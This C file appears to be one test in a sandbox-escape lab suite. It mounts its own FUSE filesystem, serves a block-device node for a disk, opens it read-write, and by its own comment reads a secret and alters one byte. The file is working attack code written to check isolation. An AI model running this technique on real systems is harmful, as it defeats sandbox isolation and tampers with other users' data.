// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G2, G4. Serves a filesystem of its own in /tmp, where it may read and write anything, in which a
 * device node of a disk lies that nobody was asked about, and opens that. Source: fs/fuse/inode.c,
 * fuse_init_inode(). Control: the secret on the disk is read, and a byte of it changed.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/fuse.h>
#include <pthread.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <unistd.h>

#include "attack.h"
#include "files.h"

#define VIEW "/tmp/lab-served"

enum { ROOT = 1, NODE = 2, RAW_DEVICE_NUMBER = 7 << 8 | 5 };

static int channel;

static void answer(uint64_t unique, int error, const void *data, size_t size)
{
	struct fuse_out_header head = { .len = (uint32_t)(sizeof(head) + size), .error = -error,
		.unique = unique };
	const struct iovec parts[2] = { { &head, sizeof(head) }, { (void *)data, size } };

	if (writev(channel, parts, 2) < 0 && errno != ENOENT)
		_exit(1);
}

static struct fuse_attr attributes(uint64_t node)
{
	if (node == ROOT)
		return (struct fuse_attr){ .ino = ROOT, .mode = S_IFDIR | 0755, .nlink = 2 };
	return (struct fuse_attr){ .ino = NODE, .mode = S_IFBLK | 0600, .nlink = 1,
				   .rdev = RAW_DEVICE_NUMBER };
}

static void *serve(void *unused)
{
	static char buffer[1 << 20];
	const struct fuse_in_header *head = (void *)buffer;
	const struct fuse_init_out init = { .major = FUSE_KERNEL_VERSION, .minor = 31,
		.max_write = 65536, .max_readahead = 65536 };
	const struct fuse_entry_out entry = { .nodeid = NODE, .attr = attributes(NODE) };
	struct fuse_attr_out out = { 0 };

	while (read(channel, buffer, sizeof(buffer)) >= (ssize_t)sizeof(*head))
		switch (head->opcode) {
		case FUSE_INIT:
			answer(head->unique, 0, &init, sizeof(init));
			break;
		case FUSE_GETATTR:
			out.attr = attributes(head->nodeid);
			answer(head->unique, 0, &out, sizeof(out));
			break;
		case FUSE_LOOKUP:
			answer(head->unique, 0, &entry, sizeof(entry));
			break;
		case FUSE_FORGET:
		case FUSE_INTERRUPT:
			break;
		default:
			answer(head->unique, ENOSYS, NULL, 0);
		}
	return unused;
}

void attack(void)
{
	char options[128];
	pthread_t server;

	stage("raw-disk");
	make_directory(VIEW);
	channel = open("/dev/fuse", O_RDWR | O_CLOEXEC);
	if (channel < 0)
		no_effect(errno);
	snprintf(options, sizeof(options), "fd=%d,rootmode=40755,user_id=0,group_id=0", channel);
	if (mount("lab", VIEW, "fuse", 0, options) || pthread_create(&server, NULL, serve, NULL))
		no_effect(errno);
	judge_raw_disk(open(VIEW "/disk", O_RDWR | O_CLOEXEC));
}
